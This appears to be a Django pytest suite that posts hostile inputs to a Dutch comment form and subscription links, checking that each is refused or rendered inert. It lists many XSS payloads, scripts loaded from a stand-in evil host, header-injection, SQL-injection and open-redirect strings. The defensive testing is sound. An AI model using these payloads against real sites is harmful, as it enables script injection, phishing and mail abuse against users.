"""Hostile input against the real comment form, the article page and the subscription links.

Every case goes through Django's test client like a reader (or an attacker) would: it
fetches the comment form, fills it in with a correct captcha, changes one thing and posts
it. Each case must end in a clear refusal (a Dutch message in the re-shown form, or a
400/403/429 page) or in a comment whose output on the article page is inert: never a
500, never executable markup. The pages are checked with html.parser, tag by tag and
attribute by attribute, not with regexes alone (tests/html_audit.py).

The corpus lives in the module-level lists below; `CORPUS_SIZE` counts it.
"""

import datetime
import re
import time
from dataclasses import dataclass
from urllib.parse import quote, urlencode

import pytest
from captcha.models import CaptchaStore
from django.conf import settings as django_settings
from django.contrib.contenttypes.models import ContentType
from django.core import signing
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from comments.forms import FORM_TOKEN_SALT
from comments.links import CONFIRM, MANAGE, UNSUBSCRIBE
from comments.models import Comment, Subscription
from comments.rendering import render_comment_html
from mail.models import OutgoingMail
from tests.conftest import post_url
from tests.html_audit import (
    PAGE_SCRIPTS,
    assert_comment_html_is_inert,
    assert_page_is_inert,
    attributes_of,
    audit,
    is_local_path,
    section_of,
    url_as_browser_reads_it,
)

pytestmark = pytest.mark.django_db

# --------------------------------------------------------------------------------------
# Expectations
# --------------------------------------------------------------------------------------

ACCEPT = "accept"  # the comment is posted and shown, inert
ANY = "any"  # posted and inert, or refused with a Dutch message: both are fine

NOT_POSTED = "Uw reactie is nog niet geplaatst."
NULL_CHARS = "Null-tekens zijn niet toegestaan."
BAD_NAME = "Uw naam bevat tekens die niet zijn toegestaan."
NO_TEXT_LEFT = "blijft er van uw reactie geen tekst over"
BAD_EMAIL = "Voer een geldig e-mailadres in."
BAD_URL = "Voer een geldige URL in."
WHOLE_NUMBER = "Voer een geheel getal in."
AT_LEAST_ONE = "Zorg ervoor dat deze waarde minstens 1 is."
NO_PARENT = "De reactie waarop u reageert bestaat niet (meer)."
BAD_TOKEN = "Dit formulier is niet meer geldig."
BAD_CODE = "De code klopt niet."
NO_CODE = "Typ de code uit de afbeelding over."
TOO_LONG = "Zorg dat deze waarde niet meer dan"
NO_NAME = "Vul uw naam in."
NO_EMAIL = "Vul uw e-mailadres in."
NO_COMMENT = "Schrijf uw reactie."

DUTCH_ERRORS = (
    NULL_CHARS,
    BAD_NAME,
    "Uw reactie bevat tekens die niet zijn toegestaan.",
    NO_TEXT_LEFT,
    BAD_EMAIL,
    BAD_URL,
    WHOLE_NUMBER,
    AT_LEAST_ONE,
    NO_PARENT,
    BAD_TOKEN,
    BAD_CODE,
    NO_CODE,
    TOO_LONG,
    NO_NAME,
    NO_EMAIL,
    NO_COMMENT,
)

LINK_INVALID = "Deze link is niet geldig."
LINK_EXPIRED = "Deze link is verlopen."
NOT_FOUND = "Pagina niet gevonden"


def case(case_id, value, expect=ACCEPT, *, bug=None, raises=None, bug_on=None):
    """One hostile input; `bug` marks a real app bug as a strict xfail (on `bug_on` only)."""
    marks = []
    if bug:
        condition = bug_on is None or connection.vendor == bug_on
        marks.append(pytest.mark.xfail(condition, strict=True, reason=f"BUG: {bug}", raises=raises))
    return pytest.param(value, expect, id=case_id, marks=marks)


# --------------------------------------------------------------------------------------
# The corpus: comment text
# --------------------------------------------------------------------------------------

SCRIPT_CASES = [
    case("script-plain", "<script>alert(1)</script>"),
    case("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    case("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    case("script-src", "<script src=https://evil.example/x.js></script>tekst"),
    case("script-src-protocol-relative", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>tekst"),
    case("script-space-before-gt", "<script >alert(1)</script >"),
    case("script-slash-instead-of-space", "<script/src=//evil.example/x.js></script>tekst"),
    case("script-newline-in-tag", "<script\nsrc=//evil.example/x.js>\n</script>tekst"),
    case("script-tab-in-tag", "<script\tsrc=//evil.example/x.js></script>tekst"),
    case("script-split-by-inner-script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    case("script-double-angle", "<<script>script>alert(1)<</script>/script>"),
    case("script-unclosed", "tekst <script>alert(1)"),
    case("script-type-module", '<script type="module">import("//evil.example")</script>x'),
    case("script-inside-text", "hallo <script>alert(1)</script> daar"),
    case("script-already-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    case("script-double-escaped", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    case("script-fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    case(
        "script-in-title-attribute",
        '<a href="https://x.nl" title="<script>alert(1)</script>">x</a>',
    ),
    case("script-end-tag-first", "</script><script>alert(1)</script>tekst"),
    case("script-in-blockquote", "<blockquote><script>alert(1)</script>citaat</blockquote>"),
]

EVENT_HANDLER_CASES = [
    case("img-onerror", "<img src=x onerror=alert(1)>tekst"),
    case("img-onerror-slashes", "<img/src/onerror=alert(1)>tekst"),
    case("img-onerror-backticks", "<img src=x onerror=`alert(1)`>tekst"),
    case("svg-onload", "<svg onload=alert(1)>tekst"),
    case("body-onload", "<body onload=alert(1)>tekst"),
    case("b-onmouseover", "<b onmouseover=alert(1)>zweef</b>"),
    case("a-onclick-kept-href", '<a href="https://x.nl" onclick="alert(1)">x</a>'),
    case("p-onclick-uppercase", "<p ONCLICK=alert(1)>x</p>"),
    case("details-ontoggle", "<details open ontoggle=alert(1)>tekst</details>"),
    case("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>tekst"),
    case("video-source-onerror", "<video><source onerror=alert(1)></video>tekst"),
    case("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    case("em-slash-handler", "<em/onmouseover=alert(1)>x</em>"),
    case("strong-single-quoted-handler", "<strong title='x' onmouseover='alert(1)'>x</strong>"),
    case("handler-entity-encoded", "<i onmouseover=&#97;&#108;&#101;&#114;&#116;(1)>x</i>"),
]

URL_SCHEME_CASES = [
    case("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    case("a-javascript-upper", '<a href="JAVASCRIPT:alert(1)">x</a>'),
    case("a-javascript-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    case("a-javascript-tab", '<a href="java\tscript:alert(1)">x</a>'),
    case("a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    case("a-javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    case("a-javascript-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    case(
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    case(
        "a-javascript-hex-entities-no-semicolon",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    ),
    case("a-javascript-padded-entity", '<a href="&#0000106avascript:alert(1)">x</a>'),
    case("a-javascript-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    case("a-javascript-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    case("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    case("a-javascript-zero-width", '<a href="java\u200bscript:alert(1)">x</a>'),
    case(
        "a-data-html-base64",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    case("a-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    case("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    case("a-vbscript-mixed-case", '<a href="VbScRiPt:msgbox(1)">x</a>'),
    case("a-protocol-relative", '<a href="//evil.example/">x</a>'),
    case("a-mailto-header-injection", '<a href="mailto:a@b.nl?bcc=c@d.nl%0D%0ABcc:e@f.nl">x</a>'),
    case("a-href-attribute-breakout", "<a href='https://x.nl/\"onmouseover=alert(1) x=\"'>x</a>"),
    case(
        "a-target-and-ping",
        '<a href="https://x.nl" target="_blank" ping="https://evil.example">x</a>',
    ),
    case("bare-javascript-text", "javascript:alert(1)"),
    case("bare-data-text", "data:text/html,<script>alert(1)</script>"),
    case("bare-url-with-quote", 'http://x.nl/"onmouseover="alert(1)'),
    case("bare-url-with-script", "https://x.nl/<script>alert(1)</script>"),
    case("area-javascript", "<map><area href=javascript:alert(1)></map>tekst"),
    case("isindex-javascript", "<isindex action=javascript:alert(1) type=image>tekst"),
]

NAMESPACE_CASES = [
    case("svg-script", "<svg><script>alert(1)</script></svg>"),
    case(
        "svg-a-xlink-javascript",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    ),
    case("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>tekst"),
    case(
        "svg-set-href",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    case(
        "svg-foreignobject-iframe",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>x",
    ),
    case("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>", NO_TEXT_LEFT),
    case("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    case("math-mi-xlink", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>"),
    case(
        "math-mtext-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        NO_TEXT_LEFT,
    ),
    case(
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'
        "</annotation-xml></math>",
        NO_TEXT_LEFT,
    ),
    case("math-style", "<math><style><img src=x onerror=alert(1)></style></math>", NO_TEXT_LEFT),
    case(
        "form-math-mglyph",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        '<path id="</style><img onerror=alert(1) src>">',
        NO_TEXT_LEFT,
    ),
]

PARSING_DIFFERENTIAL_CASES = [
    case(
        "noscript-title",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        NO_TEXT_LEFT,
    ),
    case("style-img", "<style><img src=x onerror=alert(1)></style>", NO_TEXT_LEFT),
    case("style-closed-then-img", "<style></style><img src=x onerror=alert(1)>tekst"),
    case("title-img", "<title><img src=x onerror=alert(1)></title>", NO_TEXT_LEFT),
    case("textarea-img", "<textarea><img src=x onerror=alert(1)></textarea>", NO_TEXT_LEFT),
    case("textarea-close-breakout", "</textarea><script>alert(1)</script>"),
    case("xmp-img", "<xmp><img src=x onerror=alert(1)></xmp>", NO_TEXT_LEFT),
    case("iframe-content", "<iframe><img src=x onerror=alert(1)></iframe>", NO_TEXT_LEFT),
    case("iframe-src", '<iframe src="https://evil.example"></iframe>tekst'),
    case("plaintext", "<plaintext><img src=x onerror=alert(1)>", NO_TEXT_LEFT),
    case(
        "noembed-title",
        '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
        NO_TEXT_LEFT,
    ),
    case("template-script", "<template><script>alert(1)</script></template>"),
    case(
        "select-style", "<select><style></select><img src=x onerror=alert(1)></style>", NO_TEXT_LEFT
    ),
    case("listing", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"),
    case("style-img-then-text", "<style><img src=x onerror=alert(1)></style>tekst"),
    case(
        "noscript-title-then-text", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x'
    ),
    case("xmp-img-then-text", "<xmp><img src=x onerror=alert(1)></xmp>tekst"),
    case("noframes", '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', NO_TEXT_LEFT),
]

STRUCTURE_CASES = [
    case("unclosed-a", '<a href="https://x.nl">open'),
    case("unclosed-b-i-a", "<b><i><a href='https://x.nl'>open"),
    case("unclosed-attribute-quote", '<a href="https://x.nl>nooit gesloten', NO_TEXT_LEFT),
    case("unclosed-img-tag", "tekst <img src=x onerror=alert(1)//"),
    case("nested-links", '<a href="https://a.nl"><a href="javascript:alert(1)">x</a></a>'),
    case("deeply-nested-b", "<b>" * 900 + "diep"),
    case("deeply-nested-blockquote", "<blockquote>" * 240 + "diep"),
    case("misnested", "<b><i>x</b></i><p><blockquote>y</p></blockquote>"),
    case("stray-closers-then-script", "</p></div></article></li></ol><script>alert(1)</script>x"),
    case("leave-the-section", "</div></article></li></ol></section><img src=x onerror=alert(1)>x"),
    case("close-main-and-body", "</main></body></html><script>alert(1)</script>x"),
    case("many-links", " ".join(f'<a href="https://x{i}.nl">{i}</a>' for i in range(30))),
]

COMMENT_TRICK_CASES = [
    case("html-comment", "<!--<img src=x onerror=alert(1)>-->", NO_TEXT_LEFT),
    case("comment-bang-close", "<!-- x --!><img src=x onerror=alert(1)>tekst"),
    case("comment-unclosed", "tekst <!-- <script>alert(1)</script>"),
    case("comment-abrupt", "<!--><img src=x onerror=alert(1)>-->tekst"),
    case("comment-conditional", "<!--[if IE]><script>alert(1)</script><![endif]-->tekst"),
    case(
        "comment-in-attribute",
        '<a href="https://x.nl" title="<!--">x</a><img src=x onerror=alert(1)>-->',
    ),
    case("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    case("processing-instruction", '<?xml version="1.0"?><img src=x onerror=alert(1)>tekst'),
    case("doctype-script", "<!DOCTYPE html><script>alert(1)</script>"),
]

TEMPLATE_SYNTAX_CASES = [
    case("tpl-variables", "{{ request.user }} {{ settings.SECRET_KEY }}"),
    case("tpl-debug-tag", "{% debug %} einde"),
    case("tpl-include", '{% load static %}{% include "base.html" %} einde'),
    case("tpl-csrf-and-comment", "{# verborgen #} {% csrf_token %} einde"),
    case("tpl-ssti-python", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    case("tpl-safe-filter", '{{ "<script>alert(1)</script>"|safe }}'),
    case("tpl-jinja-statement", "{%- for x in range(10) -%}{{ x }}{%- endfor -%}"),
]

ATTRIBUTE_AND_CSS_CASES = [
    case("attr-double-quote-breakout", '"><script>alert(1)</script>'),
    case("attr-single-quote-breakout", "'><script>alert(1)</script>"),
    case("attr-backtick-breakout", "`><img src=x onerror=alert(1)>"),
    case("attr-onmouseover-injection", '" onmouseover="alert(1)'),
    case(
        "attr-in-title-breakout",
        '<a href="https://x.nl/" title=""><script>alert(1)</script>">x</a>',
    ),
    case("css-expression", '<p style="width:expression(alert(1))">x</p>'),
    case("css-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    case("css-import", "<style>@import 'https://evil.example/x.css';</style>tekst"),
    case("css-moz-binding", '<b style="-moz-binding:url(https://evil.example/x.xml#x)">x</b>'),
    case("link-stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>tekst"),
]

ACTIVE_ELEMENT_CASES = [
    case("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">tekst'),
    case(
        "meta-refresh-javascript",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">tekst',
    ),
    case("base-href", '<base href="https://evil.example/">tekst'),
    case("base-javascript", '<base target="_blank" href="javascript:alert(1)//">tekst'),
    case(
        "form-action",
        '<form action="https://evil.example"><input name=x><button>Verstuur</button></form>',
    ),
    case("button-formaction", '<button form=x formaction="javascript:alert(1)">klik</button>'),
    case("input-formaction", "<input type=submit formaction=javascript:alert(1) value=klik>tekst"),
    case(
        "button-hijacks-site-form",
        "<button form=id_comment formaction=https://evil.example>x</button>",
    ),
    case("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>tekst'),
    case("object-javascript", '<object data="javascript:alert(1)"></object>tekst'),
    case(
        "object-flash",
        '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>x',
    ),
    case("embed-javascript", '<embed src="javascript:alert(1)">tekst'),
    case(
        "embed-svg-data",
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">tekst',
    ),
    case("applet", "<applet code=x>tekst</applet>"),
    case("img-dynsrc", '<img dynsrc="javascript:alert(1)">tekst'),
    case("portal", '<portal src="https://evil.example"></portal>tekst'),
]

ENCODING_CASES = [
    case("utf7-script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    case("utf7-charset-meta", '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
    case("bidi-override-filename", '\u202e<a href="https://evil.example">gpj.exe</a>'),
    case("bidi-isolates", "\u2066\u2067\u2068 tekst \u2069"),
    case("zero-width-in-tag-name", "<scr\u200bipt>alert(1)</scr\u200bipt>"),
    case("byte-order-mark", "\ufeff<script>alert(1)</script>tekst"),
    case("c1-controls", "tekst \x85\x9b<script>alert(1)</script>"),
    case("c0-controls", "tekst \x01\x08\x0b\x0c\x1b[31m<script>alert(1)</script>"),
    case("backslash-u-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    case("line-separators", "x\u2028<script>alert(1)</script>\u2029y"),
    case("zalgo", "Z\u0337\u0322\u034ea\u0335l\u0336g\u0338o <script>alert(1)</script>"),
    case("emoji-and-astral", "\U0001f600 <b>\U0001d54f</b> \U0001f4a9"),
    case("nul-in-tag-name", "<scr\x00ipt>alert(1)</script>", NULL_CHARS),
    case("nul-in-href", '<a href="java\x00script:alert(1)">x</a>', NULL_CHARS),
    case("nul-only", "\x00", NULL_CHARS),
]

REFUSED_TEXT_CASES = [
    case(
        "only-script-and-img",
        "<script></script><style></style><img src=x onerror=alert(1)>",
        NO_TEXT_LEFT,
    ),
    case("only-markup-and-nbsp", "&nbsp; <b> </b> <i></i>", NO_TEXT_LEFT),
    case("only-whitespace", " \n\t\r\n ", NO_COMMENT),
    case("overlong-3001", "<script>" * 375 + "x", TOO_LONG),
    case("overlong-50000", "<img src=x onerror=alert(1)>" * 2000, TOO_LONG),
]

COMMENT_TEXT_CASES = (
    SCRIPT_CASES
    + EVENT_HANDLER_CASES
    + URL_SCHEME_CASES
    + NAMESPACE_CASES
    + PARSING_DIFFERENTIAL_CASES
    + STRUCTURE_CASES
    + COMMENT_TRICK_CASES
    + TEMPLATE_SYNTAX_CASES
    + ATTRIBUTE_AND_CSS_CASES
    + ACTIVE_ELEMENT_CASES
    + ENCODING_CASES
    + REFUSED_TEXT_CASES
)

# Bodies that are not valid UTF-8 (overlong encodings, surrogates): posted as raw bytes.
RAW_COMMENT_CASES = [
    case("overlong-utf8-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    case("overlong-utf8-3-byte", "%E0%80%BCscript%E0%80%BEalert(1)"),
    case("lone-surrogate", "%ED%A0%80%3Cscript%3Ealert(1)%3C/script%3E"),
    case("latin1-bytes", "caf%E9 %3Cscript%3Ealert(1)%3C/script%3E"),
    case("invalid-bytes-ff-fe", "%FF%FE%3Cimg src=x onerror=alert(1)%3E tekst"),
]

# --------------------------------------------------------------------------------------
# The corpus: name, website, e-mail
# --------------------------------------------------------------------------------------

NAME_CASES = [
    case("name-script", "<script>alert(1)</script>"),
    case("name-attribute-breakout", '"><img src=x onerror=alert(1)>'),
    case("name-single-quote-breakout", "'><svg onload=alert(1)>"),
    case("name-onmouseover", '" onmouseover="alert(1)" x="'),
    case("name-javascript-url", "javascript:alert(1)"),
    case("name-data-url", "data:text/html,<script>alert(1)</script>"),
    case("name-template", "{{ request.user.password }}"),
    case("name-entities", "&lt;script&gt;&#106;"),
    case("name-html-comment", "<!-- Petra"),
    case("name-crlf-bcc", "Petra\r\nBcc: slachtoffer@evil.example", BAD_NAME),
    case("name-lf-to", "Petra\nTo: slachtoffer@evil.example", BAD_NAME),
    case("name-cr", "Petra\rSubject: gratis", BAD_NAME),
    case("name-nel", "Petra\x85Bcc: slachtoffer@evil.example", BAD_NAME),
    case("name-nul", "Petra\x00", NULL_CHARS),
    case("name-bidi-rlo", "Petra\u202egpj.exe", BAD_NAME),
    case("name-bidi-isolate", "\u2067Petra", BAD_NAME),
    case("name-rlm", "Petra\u200f", BAD_NAME),
    case("name-zero-width", "Pe\u200btra\u200d"),
    case("name-only-zero-width", "\u200b\u200c\u200d"),
    case("name-byte-order-mark", "\ufeffPetra"),
    case("name-line-separator", "Petra\u2028Bcc: x@evil.example"),
    case("name-overlong-51", "x" * 51, TOO_LONG),
    case("name-overlong-10000", "<script>" * 1250, TOO_LONG),
    case("name-only-spaces", "   ", NO_NAME),
]

WEBSITE_CASES = [
    case("url-javascript", "javascript:alert(1)", BAD_URL),
    case("url-javascript-upper", "JAVASCRIPT:alert(1)", BAD_URL),
    case("url-javascript-leading-space", " javascript:alert(1)", BAD_URL),
    case("url-javascript-tab", "java\tscript:alert(1)", BAD_URL),
    case("url-javascript-slashes", "javascript://example.nl/%0Aalert(1)", BAD_URL),
    case("url-javascript-entity-colon", "javascript&colon;alert(1)", BAD_URL),
    case("url-data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", BAD_URL),
    case("url-vbscript", "vbscript:msgbox(1)", BAD_URL),
    case("url-file", "file:///etc/passwd", BAD_URL),
    case("url-ftp", "ftp://example.nl/", BAD_URL),
    case("url-mailto", "mailto:slachtoffer@example.nl", BAD_URL),
    case("url-gopher", "gopher://evil.example/", BAD_URL),
    case("url-protocol-relative", "//evil.example/"),
    case("url-quote-breakout", 'https://example.nl/"><script>alert(1)</script>'),
    case("url-handler-in-fragment", 'https://example.nl/#"onmouseover="alert(1)'),
    case("url-single-quote-breakout", "https://example.nl/'><svg/onload=alert(1)>"),
    case("url-crlf-bcc", "https://example.nl/\r\nBcc: x@evil.example", BAD_URL),
    case("url-nul", "https://example.nl/\x00", NULL_CHARS),
    case("url-overlong-201", "https://example.nl/" + "a" * 182, TOO_LONG),
    case("url-overlong-100000", "https://example.nl/" + "a" * 100_000, TOO_LONG),
    case("url-bidi-override", "https://example.nl/\u202egpj.exe"),
    case("url-zero-width-host", "https://exa\u200bmple.nl/"),
    case("url-userinfo-spoof", "https://www.example.nl@evil.example/"),
    case("url-template", "https://example.nl/{{7*7}}{%debug%}"),
]

EMAIL_CASES = [
    case("email-crlf-bcc", "petra@example.nl\r\nBcc: slachtoffer@evil.example", BAD_EMAIL),
    case("email-lf-to", "petra@example.nl\nTo: slachtoffer@evil.example", BAD_EMAIL),
    case("email-comma-list", "petra@example.nl,slachtoffer@evil.example", BAD_EMAIL),
    case("email-semicolon-list", "petra@example.nl;slachtoffer@evil.example", BAD_EMAIL),
    case("email-display-name", "Petra <petra@example.nl>", BAD_EMAIL),
    case("email-script-local-part", "<script>alert(1)</script>@example.nl", BAD_EMAIL),
    case("email-quoted-script", '"<script>alert(1)</script>"@example.nl'),
    case("email-quoted-comma", '"slachtoffer@evil.example,x"@example.nl'),
    case("email-nul", "petra\x00@example.nl", NULL_CHARS),
    case("email-overlong-255", "a" * 244 + "@example.nl", TOO_LONG),
    case("email-overlong-100000", "a" * 100_000 + "@example.nl", TOO_LONG),
    case("email-no-at", "petra.example.nl", BAD_EMAIL),
    case("email-two-ats", "petra@evil.example@example.nl", BAD_EMAIL),
    case("email-bidi", "petra\u202e@example.nl", BAD_EMAIL),
    case("email-sql", "' OR 1=1 --@example.nl", BAD_EMAIL),
    case("email-encoded-word", "=?utf-8?q?x=0D=0ABcc:_y@evil.example?=@example.nl", BAD_EMAIL),
    case("email-only-spaces", "   ", NO_EMAIL),
]

# --------------------------------------------------------------------------------------
# The corpus: hidden fields, captcha, redirects
# --------------------------------------------------------------------------------------

OVERFLOW_BUG = (
    "{where} passes an all-digit parent id beyond 64 bits to "
    "Comment.objects.filter(pk=...) in CommentForm._visible_parent (comments/forms.py:151): "
    "SQLite raises OverflowError, a 500 (PostgreSQL compares it as numeric and finds nothing)"
)
ISDIGIT_BUG = (
    "{where}: CommentForm._visible_parent (comments/forms.py:149-151) trusts str.isdigit(), "
    "which accepts '\u00b2' (superscript two) and any length, but int() refuses both "
    "(invalid literal / more than 4300 digits): ValueError from filter(pk=...), a 500"
)
# "@foreign", "@removed" and "@held" are replaced by the id of such a comment.
PARENT_CASES = [
    case("parent-letters", "abc", WHOLE_NUMBER),
    case("parent-negative", "-1", AT_LEAST_ONE),
    case("parent-zero", "0", AT_LEAST_ONE),
    case("parent-huge", "9" * 30, NO_PARENT),
    case("parent-10000-digits", "9" * 10_000, WHOLE_NUMBER),
    case("parent-float", "1.5", WHOLE_NUMBER),
    case("parent-exponent", "1e3", WHOLE_NUMBER),
    case("parent-hex", "0x1", WHOLE_NUMBER),
    case("parent-superscript-digit", "\u00b2", WHOLE_NUMBER),
    case("parent-sql-or", "1 OR 1=1", WHOLE_NUMBER),
    case("parent-sql-drop", "1; DROP TABLE comments_comment;--", WHOLE_NUMBER),
    case("parent-nul", "1\x00", WHOLE_NUMBER),
    case("parent-foreign-article", "@foreign", NO_PARENT),
    case("parent-removed-comment", "@removed", NO_PARENT),
    case("parent-held-comment", "@held", NO_PARENT),
]

# The `op` querystring (GET), and the hidden `parent` on the no-JavaScript captcha refresh
# and on a rate-limited post, where the form is built from `initial=request.POST`.
PARENT_VALUES = [
    # (name, value, exception the app raises for it; None for all once fixed)
    ("letters", "abc", None),
    ("negative", "-1", None),
    ("zero", "0", None),
    ("huge", "9" * 30, None),
    ("superscript-digit", "\u00b2", None),
    ("arabic-indic-digit", "\u0661", None),
    ("5000-digits", "9" * 5000, None),
    ("sql", "1 OR 1=1", None),
    ("script", "<script>alert(1)</script>", None),
    ("foreign-article", "@foreign", None),
    ("removed-comment", "@removed", None),
]


def parent_cases(prefix, where, names=None):
    cases = []
    for name, value, exception in PARENT_VALUES:
        if names is not None and name not in names:
            continue
        bug = bug_on = None
        if exception is OverflowError:
            bug, bug_on = OVERFLOW_BUG.format(where=where), "sqlite"
        elif exception is ValueError:
            bug = ISDIGIT_BUG.format(where=where)
        cases.append(case(f"{prefix}-{name}", value, ANY, bug=bug, raises=exception, bug_on=bug_on))
    return cases


OP_CASES = parent_cases("op", "GET /reacties/<id>/reageren/?op=... (comments/views.py:34)")
REFRESH_PARENT_CASES = parent_cases(
    "refresh-parent", "POST with nieuwe_code (comments/views.py:38, forms.py:120)"
)
RATE_LIMITED_PARENT_CASES = parent_cases(
    "rate-limited-parent",
    "a rate-limited POST (comments/views.py:55, forms.py:120)",
    names={"letters", "huge", "superscript-digit", "5000-digits"},
)

# Kinds of form token; built per test because they need the article.
TOKEN_CASES = [
    case("token-tampered-signature", "tampered-signature", BAD_TOKEN),
    case("token-tampered-payload", "tampered-payload", BAD_TOKEN),
    case("token-truncated", "truncated", BAD_TOKEN),
    case("token-signature-only", "signature-only", BAD_TOKEN),
    case("token-empty", "empty", BAD_TOKEN),
    case("token-missing", "missing", BAD_TOKEN),
    case("token-other-article", "other-article", BAD_TOKEN),
    case("token-garbage", "garbage", BAD_TOKEN),
    case("token-other-salt", "other-salt", BAD_TOKEN),
    case("token-wrong-payload-types", "wrong-types", BAD_TOKEN),
    case("token-list-payload", "list-payload", BAD_TOKEN),
    case("token-huge", "huge", BAD_TOKEN),
    case("token-nul", "nul", BAD_TOKEN),
    case("token-sql", "sql", BAD_TOKEN),
]

CAPTCHA_CASES = [
    case("captcha-replayed-answer", "replay", BAD_CODE),
    case("captcha-wrong-hashkey", "wrong-hashkey", BAD_CODE),
    case("captcha-other-captchas-key", "other-key", BAD_CODE),
    case("captcha-missing-hashkey", "missing-key", NO_CODE),
    case("captcha-missing-answer", "missing-answer", NO_CODE),
    case("captcha-missing-both", "missing-both", NO_CODE),
    case("captcha-sql-hashkey", "sql-key", BAD_CODE),
    case("captcha-traversal-hashkey", "traversal-key", BAD_CODE),
    case("captcha-huge-answer", "huge-answer", BAD_CODE),
    case("captcha-nul-answer", "nul-answer", NULL_CHARS),
    case("captcha-expired", "expired", BAD_CODE),
    case("captcha-test-mode-answer", "passed", BAD_CODE),
]

# (querystring, extra POST fields, extra headers): a posted comment must stay on the site.
REDIRECT_CASES = [
    case("next-absolute", ({"next": "https://evil.example/"}, {}, {})),
    case("next-protocol-relative", ({"next": "//evil.example/"}, {}, {})),
    case("next-backslash", ({"next": "/\\evil.example/"}, {}, {})),
    case("next-javascript", ({"next": "javascript:alert(1)"}, {}, {})),
    case("next-crlf-location", ({"next": "/\r\nLocation: https://evil.example/"}, {}, {})),
    case(
        "redirect-to-and-return-to",
        ({"redirect_to": "https://evil.example", "return_to": "//evil.example"}, {}, {}),
    ),
    case("next-in-post-body", ({}, {"next": "https://evil.example/"}, {})),
    case(
        "next-with-fragment-param",
        ({"next": "https://evil.example/", "fragment": "1"}, {"next": "//evil.example"}, {}),
    ),
    case(
        "evil-referer",
        ({"next": "https://evil.example/"}, {}, {"Referer": "https://evil.example/"}),
    ),
    case("next-on-double-post", ({"next": "https://evil.example/"}, {}, {"_double": "1"})),
]

# --------------------------------------------------------------------------------------
# The corpus: subscription links, CSRF, mail headers, request limits
# --------------------------------------------------------------------------------------

LINK_ENDPOINTS = {
    "confirm": ("bevestigen", CONFIRM.salt),
    "manage": ("beheren", MANAGE.salt),
    "unsubscribe": ("afmelden", UNSUBSCRIBE.salt),
}
LINK_KINDS = {
    # kind: (expected status, expected Dutch text)
    "garbage": (400, LINK_INVALID),
    "tampered-signature": (400, LINK_INVALID),
    "tampered-payload": (400, LINK_INVALID),
    "truncated": (400, LINK_INVALID),
    "expired": (400, LINK_EXPIRED),
    "other-purpose": (400, LINK_INVALID),
    "deleted-subscription": (400, LINK_INVALID),
    "list-payload": (400, LINK_INVALID),
    "dot-dot": (400, LINK_INVALID),
    "traversal-encoded-slashes": (404, NOT_FOUND),
    "traversal-backslashes": (400, LINK_INVALID),
    "nul": (400, LINK_INVALID),
    "sql": (400, LINK_INVALID),
    "script": (404, NOT_FOUND),
    "svg-onload": (400, LINK_INVALID),
    "huge": (400, LINK_INVALID),
    "overlong-utf8": (400, LINK_INVALID),
    "fake-timestamp": (400, LINK_INVALID),
}
SUBSCRIPTION_LINK_CASES = [
    pytest.param(endpoint, kind, id=f"{endpoint}-{kind}")
    for endpoint in LINK_ENDPOINTS
